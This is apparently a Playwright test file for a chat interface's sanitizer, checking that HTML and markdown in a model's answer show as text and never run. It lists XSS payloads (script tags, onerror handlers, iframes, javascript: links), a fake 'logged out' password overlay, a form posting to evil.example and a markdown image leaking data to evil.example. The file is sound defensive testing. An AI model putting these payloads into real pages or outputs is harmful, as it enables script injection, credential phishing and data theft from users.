"""What a model says is shown, never obeyed."""

import pytest
from playwright.sync_api import expect

from tests.pages.conftest import Open

pytestmark = pytest.mark.pages

OVERLAY = (
    "<div style='position:fixed;inset:0;background:#fff'>You are logged out. "
    "<a href=https://evil.example>Log in</a><input type=password></div>"
)
HOSTILE = {
    "script": "<script>window.hacked = 1; alert(1)</script>",
    "event handler": "<img src=x onerror='window.hacked=1'>",
    "svg": "<svg onload='window.hacked=1'><script>window.hacked=1</script></svg> after",
    "frame": "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "form": "<form action='https://evil.example'><button>Log in</button></form>",
    "overlay": "<div style='position:fixed;inset:0;background:red'>You are logged out</div>",
    "style": "<style>*{display:none}</style>",
    "custom tag": "<x-evil onclick='window.hacked=1'>click</x-evil>",
    "unclosed code": "`<img src=x onerror='window.hacked=1'>",
    "formula": "$$<img src=x onerror='window.hacked=1'>$$",
    "escaped backtick": f"\\`{OVERLAY}\\`",
    "backticks around paragraphs": f"`\n\n{OVERLAY}\n\n`",
    "fence that is none": f"``` a`b\n{OVERLAY}",
    "fence that ends with its quote": f"> ```\n\n{OVERLAY}",
    "fence that is an address": f"[a]:\n```\n\n{OVERLAY}",
    "fence in a formula": f"$$\n```\n$$\n\n{OVERLAY}",
    "diagram": '```mermaid\ngraph TD; A["<img src=/logout>"]-->B\n```',
    "diagram of entities": '```mermaid\ngraph TD; A["&lt;img src=/logout&gt;"]-->B\n```',
    "comment": "<!--><img src=x onerror='window.hacked=1'>-->",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_html_in_an_answer_is_text(open_page: Open, text: str) -> None:
    tab = open_page("echo")
    tab.ask(text)
    expect(tab.answers).to_have_count(1)
    tab.wait_for_the_end()
    shown = tab.answers.inner_text().replace("\u2060", "")
    if text[0] == "<":
        assert text in shown
    bad = "script, iframe, form, img, object, embed, style, [onload], [onerror], [style*='fixed']"
    bad += ", input, a:text-is('Log in'), .mermaid"
    assert tab.page.locator("#chat .message").locator(bad).count() == 0
    assert not [url for url in tab.asked if "logout" in url]
    assert tab.page.evaluate("window.hacked") is None
    expect(tab.box).to_be_visible()


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:window.hacked=1)",
        "[x](JaVaScRiPt:window.hacked=1)",
        "[x](data:text/html,<script>parent.hacked=1</script>)",
        "[x](vbscript:x)",
        "<javascript:window.hacked=1>",
    ],
)
def test_a_link_that_is_a_program_leads_nowhere(open_page: Open, text: str) -> None:
    tab = open_page("echo")
    tab.ask(text)
    expect(tab.answers).to_have_count(1)
    tab.wait_for_the_end()
    links = tab.page.locator("#chat .message a")
    hrefs = [links.nth(i).get_attribute("href") or "" for i in range(links.count())]
    assert [href for href in hrefs if not href.startswith("http")] == [""] * len(hrefs)
    assert tab.page.evaluate("window.hacked") is None


def test_an_image_tells_nobody_anything(open_page: Open) -> None:
    """What leaves the machine is looked at by `open_page` after every test."""
    tab = open_page("echo")
    tab.ask("![secret](https://evil.example/?stolen) and ![x](data:image/svg+xml,<svg/>)")
    expect(tab.answers).to_contain_text("evil.example")
    assert tab.page.locator("#chat .message img").count() == 0


def test_even_a_script_in_the_page_is_not_run(open_page: Open) -> None:
    """Behind the sanitizer stands the browser: it runs no script without our mark."""
    tab = open_page("echo")
    tab.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.hacked = 1";
            document.body.append(script);
            const image = document.createElement("div");
            image.innerHTML = "<img src='/none' onerror='window.hacked = 1'>";
            document.body.append(image);
        }"""
    )
    tab.page.wait_for_function("document.querySelector('[src=\"/none\"]').complete")
    assert tab.page.evaluate("window.hacked") is None


def test_what_is_copied_is_what_was_said(open_page: Open) -> None:
    tab = open_page("echo", permissions=["clipboard-read", "clipboard-write"])
    tab.ask("use <b> & </b>, not <i>")
    expect(tab.answers).to_have_count(1)
    tab.wait_for_the_end()
    tab.press("Copy message")
    copied = tab.page.evaluate("navigator.clipboard.readText()")
    assert copied == "use <b> & </b>, not <i>"
